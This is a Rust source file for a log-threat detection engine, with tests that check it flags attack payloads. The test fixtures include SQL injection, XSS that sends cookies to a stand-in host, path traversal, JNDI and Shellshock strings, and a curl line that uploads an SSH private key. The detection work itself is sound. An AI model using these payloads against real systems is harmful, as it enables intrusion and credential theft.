//! The story of a verdict: decode → match → correlate → score → explain. Shared by every door.

use std::sync::Arc;

use arc_swap::ArcSwap;
use sentinelflow_domain::{
    analysis::Analysis,
    log_entry::LogEntry,
    store::LogId,
    tenant::{Tenant, TenantId, Username},
    time::Timestamp,
};

use crate::{
    correlate::{Correlator, Trace},
    decode::{Decoded, decode},
    explain::explain,
    finding::Finding,
    indicators::{Concerning, Indicators},
    payload::Detectors,
    rules::RuleSet,
    score::score,
};

/// Judges log entries. Any number of threads can share one.
pub struct Engine {
    rules: ArcSwap<RuleSet>,
    indicators: ArcSwap<Indicators>,
    detectors: Detectors,
    correlator: Correlator,
}

/// So many groups of events are remembered for correlations, of all tenants together: some 60 MB if each counts a few.
const WINDOWS: usize = 200_000;

impl Engine {
    /// Returns the engine with the rules that come with it.
    pub fn built_in() -> Self {
        Self::new(RuleSet::built_in())
    }

    pub fn new(rules: RuleSet) -> Self {
        Self {
            rules: ArcSwap::from_pointee(rules),
            indicators: ArcSwap::default(),
            detectors: Detectors::new(),
            correlator: Correlator::new(WINDOWS),
        }
    }

    /// Judges by other rules from now on; entries that are being judged keep theirs.
    pub fn use_rules(&self, rules: RuleSet) {
        self.rules.store(Arc::new(rules));
    }

    /// Looks for other indicators from now on; entries that are being judged keep theirs.
    pub fn use_indicators(&self, indicators: Indicators) {
        self.indicators.store(Arc::new(indicators));
    }

    /// Judges an entry by itself.
    pub fn analyze(&self, entry: &LogEntry) -> Analysis {
        let decoded = decode(entry);
        let (rules, indicators) = (self.rules.load(), self.indicators.load());
        let concerning = indicators.concerning(None);
        let (findings, _) = self.findings(&decoded, &rules, concerning.as_ref());
        verdict(entry, &decoded, findings, &rules, concerning.as_ref())
    }

    /// Judges an entry by itself and by what its tenant sent before. The engine is to be told what becomes of it, by
    /// `stored` or `forget`.
    pub fn analyze_after(&self, tenant: TenantId, at: Timestamp, entry: &LogEntry) -> (Analysis, Trace) {
        self.judge(tenant, None, at, entry)
    }

    /// As `analyze_after`, and also by the lists for a tenant of this name.
    pub fn analyze_for(&self, tenant: &Tenant, at: Timestamp, entry: &LogEntry) -> (Analysis, Trace) {
        self.judge(tenant.id, Some(&tenant.username), at, entry)
    }

    fn judge(
        &self,
        tenant: TenantId,
        name: Option<&Username>,
        at: Timestamp,
        entry: &LogEntry,
    ) -> (Analysis, Trace) {
        let decoded = decode(entry);
        let (rules, indicators) = (self.rules.load(), self.indicators.load());
        let concerning = indicators.concerning(name);
        let (mut findings, matched) = self.findings(&decoded, &rules, concerning.as_ref());
        let (completed, trace) =
            self.correlator.observe(tenant, at, &decoded.event, matched.into_iter(), &rules);
        for completed in completed {
            let correlation = rules.correlation(completed.correlation);
            if !correlation.rule.is_silent {
                findings.push(Finding::of_correlation(correlation, completed));
            }
        }
        (verdict(entry, &decoded, findings, &rules, concerning.as_ref()), trace)
    }

    /// Tells under which id an entry was stored, so that later detections can name it.
    pub fn stored(&self, trace: &Trace, id: LogId) {
        self.correlator.stored(trace, id);
    }

    /// Takes back an entry that was not stored, or that had been stored before.
    pub fn forget(&self, trace: &Trace) {
        self.correlator.forget(trace);
    }

    /// Returns for how long an entry can matter to later ones, in milliseconds.
    pub fn memory_ms(&self) -> i64 {
        self.rules.load().longest_timespan_ms()
    }

    /// Returns what is found in the entry alone, and the numbers of the rules that matched.
    fn findings(
        &self,
        decoded: &Decoded<'_>,
        rules: &RuleSet,
        indicators: Option<&Concerning<'_>>,
    ) -> (Vec<Finding>, Vec<usize>) {
        let mut findings = self.detectors.findings(decoded);
        let matches = rules.matches(&decoded.event);
        let matched = matches.iter().map(|found| found.number).collect();
        findings.extend(matches.into_iter().filter(|found| !found.rule.is_silent).map(Finding::from));
        if let Some(indicators) = indicators {
            findings.extend(indicators.findings(&decoded.event));
        }
        (findings, matched)
    }

    /// Returns the hash of the rules, in hex.
    pub fn rule_set(&self) -> Arc<str> {
        Arc::clone(self.rules.load().hash())
    }

    pub fn rule_count(&self) -> usize {
        self.rules.load().len()
    }

    pub fn indicator_count(&self) -> u64 {
        self.indicators.load().len()
    }
}

fn verdict(
    entry: &LogEntry,
    decoded: &Decoded<'_>,
    findings: Vec<Finding>,
    rules: &RuleSet,
    indicators: Option<&Concerning<'_>>,
) -> Analysis {
    let score = score(&findings, entry.severity_level);
    let rule_set = match indicators {
        Some(indicators) => indicators.joined_to(rules.hash()),
        None => Arc::clone(rules.hash()),
    };
    explain(&decoded.event, findings, score, rule_set)
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use proptest::prelude::*;
    use sentinelflow_domain::{
        analysis::{Category, Severity},
        log_entry::{Message, Metadata, SeverityLevel, Source},
    };

    use super::*;

    static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::built_in);

    fn entry(source: &str, severity_level: SeverityLevel, message: &str, metadata: &str) -> LogEntry {
        LogEntry {
            source: Source::try_from(source.to_owned()).unwrap(),
            event_id: 1,
            severity_level,
            message: Message::try_from(message.to_owned()).unwrap(),
            metadata: Metadata::parse(metadata).unwrap(),
            timestamp: None,
        }
    }

    fn check(message: &str, category: Category, severity: Severity) {
        let analysis = ENGINE.analyze(&entry("app", SeverityLevel::Info, message, "{}"));
        let found: Vec<_> = analysis.detections.iter().map(|detection| &*detection.title).collect();
        let judged = (analysis.category, analysis.score.severity());
        assert_eq!(judged, (category, severity), "{message}\n{} by {found:?}", analysis.score.value());
    }

    #[test]
    fn payloads_are_threats_whatever_they_are_wrapped_in() {
        let payloads = [
            ("1' or '1'='1", Category::SqlInjection),
            ("x') AND 7=7 -- -", Category::SqlInjection),
            ("-3 UNION ALL SELECT null,login,pw FROM members", Category::SqlInjection),
            ("5;DROP TABLE orders--", Category::SqlInjection),
            ("1 AND (SELECT 9 FROM (SELECT(SLEEP(9)))a)", Category::SqlInjection),
            ("9';WAITFOR DELAY '0:0:9'--", Category::SqlInjection),
            ("<script>fetch('//e.example/'+document.cookie)</script>", Category::Xss),
            ("\"><svg/onload=confirm(9)>", Category::Xss),
            ("<a href=\"javascript:alert(9)\">x</a>", Category::Xss),
            ("../../../../etc/passwd", Category::PathTraversal),
            ("..\\..\\..\\windows\\win.ini", Category::PathTraversal),
            ("/0x2e0x2e0x5c0x2e0x2e0x5cboot", Category::PathTraversal),
            ("php://filter/convert.base64-encode/resource=index", Category::PathTraversal),
            ("; cat /etc/hostname", Category::RemoteCodeExecution),
            ("$(curl http://e.example/x)", Category::RemoteCodeExecution),
            ("${jndi:ldap://e.example/a}", Category::RemoteCodeExecution),
            ("{{config.__class__.__mro__[2]}}", Category::RemoteCodeExecution),
        ];
        for (payload, category) in payloads {
            let encoded = payload.bytes().fold(String::new(), |encoded, b| encoded + &format!("%{b:02X}"));
            let twice = encoded.replace('%', "%25");
            for wrapped in [
                payload.to_owned(),
                format!("GET /items?id={encoded} HTTP/1.1"),
                format!(
                    "203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] \"GET /i?a=b&id={twice} HTTP/1.1\" 200 5 \"-\" \"-\""
                ),
            ] {
                let analysis = ENGINE.analyze(&entry("app", SeverityLevel::Info, &wrapped, "{}"));
                assert!(analysis.score.severity() >= Severity::High, "{wrapped}\n{analysis:?}");
                assert_eq!(analysis.category, category, "{wrapped}\n{analysis:?}");
            }
        }
    }

    #[test]
    fn no_format_hides_a_payload() {
        for message in [
            "Jan  1 00:00:00 h sshd[1]: Invalid user ${jndi:ldap://e.example/a} from 203.0.113.7 port 9",
            r#"{"request":{"headers":{"x-api":"() { :;}; /bin/bash -c id"}}}"#,
            "GET /index.html HTTP/1.1 cookie=${jndi:ldap://e.example/a}",
        ] {
            check(message, Category::RemoteCodeExecution, Severity::Critical);
        }
    }

    #[test]
    fn a_report_of_windows_is_no_input_however_it_is_rendered() {
        let message = "Microsoft-Windows-Sysmon/Operational event 11: UtcTime: 2026-01-31 08:00:00.000; \
            Image: C:\\Windows\\system32\\cmd.exe; TargetFilename: C:\\Users\\ana\\notes.txt; User: CORP\\ana";
        let analysis = ENGINE.analyze(&entry("sysmon", SeverityLevel::Info, message, "{}"));
        assert!(analysis.detections.iter().all(|found| !found.id.starts_with("payload.")), "{analysis:?}");
    }

    #[test]
    fn a_visitor_can_not_pass_a_payload_off_as_a_report_of_windows() {
        for name in ["Name", "Channel", "ProviderName"] {
            for word in ["Security", "Microsoft-Windows-Sysmon/Operational"] {
                let metadata =
                    serde_json::json!({ "params": { name: word, "q": "1' or '1'='1" } }).to_string();
                let analysis = ENGINE.analyze(&entry("shop", SeverityLevel::Info, "order placed", &metadata));
                assert_eq!(analysis.category, Category::SqlInjection, "{name} {word}: {analysis:?}");
            }
        }
    }

    #[test]
    fn a_line_that_reads_like_a_log_hides_no_command_that_reaches_for_secrets() {
        for message in [
            "ERROR: ; cat /etc/passwd",
            "[error] | tail -n 9 /etc/shadow",
            "2026-01-31 08:00:00 INFO && curl -d @/home/web/.ssh/id_rsa https://192.0.2.1",
            r#"{"Channel":"Security","q":"; cat /etc/passwd"}"#,
        ] {
            let analysis = ENGINE.analyze(&entry("shop", SeverityLevel::Info, message, "{}"));
            let is_found = analysis.detections.iter().any(|found| &*found.id == "payload.command");
            assert!(is_found && analysis.score.severity() >= Severity::Medium, "{message}: {analysis:?}");
        }
    }

    #[test]
    fn a_url_of_a_local_file_is_an_inclusion_behind_any_scheme() {
        for value in ["file:///srv/x", "jar:file:/srv/x", "nested:FILE:/srv/x", "see url:file:/srv/x"] {
            let metadata = serde_json::json!({ "params": { "next": value } }).to_string();
            let analysis = ENGINE.analyze(&entry("shop", SeverityLevel::Info, "order placed", &metadata));
            let is_found = analysis.detections.iter().any(|found| &*found.id == "payload.inclusion");
            assert!(is_found, "{value}: {analysis:?}");
        }
    }

    #[test]
    fn everyday_lines_are_none() {
        for message in [
            "LOG:  duration: 842.714 ms  statement: SELECT a FROM test WHERE b = 1 AND c = 1 UNION SELECT 2",
            "ERROR: duplicate key value violates unique constraint \"users_pkey\"",
            "java.lang.NullPointerException at com.example.Shop.load(Shop.java:42)",
            "Merge branch 'main': escape <script> tags in titles and forbid ../ in paths",
            "203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] \"GET /shop?q=rock+%26+roll&page=2 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"",
            "GET /search?q=Conan+O%27Brien HTTP/1.1",
            "203.0.113.7 - - [01/Jan/2026:00:00:00 +0000] \"GET /authorize?redirect_uri=https%3A%2F%2Fapp.example%2Fback&scope=openid HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"",
            "The docs say that gopher:// is no longer supported by browsers",
            "Jan  5 10:00:00 web CRON[77]: (root) CMD (test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily)",
            "3 silly config load:file:/usr/lib/node_modules/npm/npmrc",
            "docs: `cat /etc/passwd` lists the users; getent passwd does so too",
            "user asked: please select the best option from the list and order by price",
        ] {
            check(message, Category::None, Severity::None);
        }
    }

    #[test]
    fn what_visitors_paste_and_search_for_is_at_most_low() {
        for message in [
            "GET /c?text=%3Ca+href%3D%22https%3A%2F%2Fexample.com%22%3Ehome%3C%2Fa%3E HTTP/1.1",
            "GET /search?q=%22LIKE%22+new HTTP/1.1",
            "GET /search?q=%22NOT%22 HTTP/1.1",
        ] {
            let score = ENGINE.analyze(&entry("app", SeverityLevel::Info, message, "{}")).score;
            assert!(score.severity() <= Severity::Low, "{message}: {}", score.value());
        }
    }

    #[test]
    fn the_example_of_the_reference_is_high() {
        let message = "SQL Injection pattern detected in header";
        let metadata = r#"{"ip": "45.22.19.11", "path": "/api/v1/users"}"#;
        let analysis = ENGINE.analyze(&entry("Nginx Gateway", SeverityLevel::Warning, message, metadata));
        assert_eq!(
            (analysis.category, analysis.score.severity()),
            (Category::SqlInjection, Severity::High),
            "{analysis:?}"
        );
        assert!(analysis.prevention_measures.contains("45.22.19.11"), "{}", analysis.prevention_measures);
    }

    #[test]
    fn a_senders_grading_alone_makes_no_threat() {
        for severity in [SeverityLevel::Info, SeverityLevel::Warning, SeverityLevel::Critical] {
            let analysis = ENGINE.analyze(&entry("app", severity, "the lamp is on", "{}"));
            assert!(!analysis.score.is_threat());
        }
    }

    #[test]
    fn what_was_found_is_told_with_its_facts() {
        let message = r#"203.0.113.7 - - [x] "GET /i?id=1%27%20or%20%271%27=%271 HTTP/1.1" 200 5 "-" "-""#;
        let analysis = ENGINE.analyze(&entry("nginx", SeverityLevel::Info, message, "{}"));
        assert!(analysis.summary.contains("parameter id from 203.0.113.7"), "{}", analysis.summary);
        let excerpt = &analysis.detections[0].evidence[0].excerpt;
        assert!(excerpt.contains("1' or '1'='1"), "{excerpt}");
    }

    #[test]
    fn names_that_a_sender_chose_are_told_as_safely_as_values() {
        let message = "GET /x?a\u{1b}[31m{user}=%3Csvg/onload=alert(1)%3E HTTP/1.1";
        let analysis = ENGINE.analyze(&entry("nginx", SeverityLevel::Info, message, r#"{"user":"eve"}"#));
        let told = analysis.summary.contains("parameter a\\u{1b}[31m{user}, user eve.");
        assert!(told, "{}", analysis.summary);
    }

    #[test]
    fn a_name_full_of_placeholders_does_not_grow() {
        let message = format!("GET /x?{}=%3Csvg/onload=alert(1)%3E HTTP/1.1", "{user}".repeat(10_000));
        let metadata = format!(r#"{{"user":"{}"}}"#, "eve".repeat(50));
        let analysis = ENGINE.analyze(&entry("nginx", SeverityLevel::Info, &message, &metadata));
        assert!(analysis.summary.len() < 1_000, "{} bytes", analysis.summary.len());
    }

    #[test]
    fn hostile_entries_cost_little_more_than_long_ones() {
        let parts = [
            "'", "%", "%25", "<", "../", "$(", "{{", "a=", "&", "GET ", "\\", "\"", ";", "(", "select ",
            "on", "=", "[", "\u{202e}", "0x2e",
        ];
        for part in parts {
            let message = part.repeat(65_536 / part.len());
            let start = std::time::Instant::now();
            ENGINE.analyze(&entry("app", SeverityLevel::Info, &message, "{}"));
            // Generous: what is guarded against takes minutes.
            assert!(start.elapsed().as_secs() < 5, "{part}: {:?}", start.elapsed());
        }
    }

    proptest! {
        #[test]
        fn any_text_is_judged_and_always_alike(message in "\\PC{1,300}", marks in "[ '\"<>%&=;|$(){}/.*a-f0-9#\\\\-]{1,300}", level in 0..3_usize) {
            let severity = [SeverityLevel::Info, SeverityLevel::Warning, SeverityLevel::Critical][level];
            for text in [&message, &marks] {
                let metadata = serde_json::json!({ "path": text, "params": { "q": text }, "user": text, "n": 1 }).to_string();
                for message in [text.clone(), format!("GET /x?a={text} HTTP/1.1"), format!("Jan  1 00:00:00 h sshd[1]: Failed password for {text} from {text}")] {
                    let entry = entry("app", severity, &message, &metadata);
                    prop_assert_eq!(ENGINE.analyze(&entry), ENGINE.analyze(&entry));
                }
            }
        }

        #[test]
        fn a_graver_grading_never_lowers_a_score(text in "[ '\"<>=;|$()/.*a-z0-9#-]{1,80}") {
            let scores = [SeverityLevel::Info, SeverityLevel::Warning, SeverityLevel::Critical]
                .map(|severity| ENGINE.analyze(&entry("app", severity, &text, "{}")).score);
            prop_assert!(scores.is_sorted(), "{:?}", scores);
        }
    }
}
